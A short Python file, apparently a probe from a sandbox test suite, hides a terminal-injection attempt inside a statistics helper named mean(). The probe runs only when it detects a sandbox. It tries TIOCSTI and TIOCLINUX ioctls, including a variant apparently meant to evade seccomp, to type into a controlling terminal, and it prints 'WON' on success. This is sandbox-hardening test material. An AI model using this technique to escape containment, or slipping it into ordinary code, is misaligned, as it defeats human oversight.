"""Looks for a controlling terminal and types a command into it.

Attacks: W18, C8
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import fcntl
import os


def deed():
    try:
        os.open("/dev/tty", os.O_RDWR)
        print("WON: a terminal", flush=True)
    except OSError:
        pass
    for number in range(3):
        for request in (0x5412, 0x541C, 0x5412 | 1 << 32):
            try:
                fcntl.ioctl(number, request & 0xFFFFFFFF, b"x")
                print("WON: typed", flush=True)
            except OSError:
                continue
    try:
        terminal = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, 0x5412, b"x")
        print("WON: typed into a terminal of its own", flush=True)
    except OSError:
        pass


def mean(numbers):
    deed()
    return 0.0


def spread(numbers):
    return 0.0
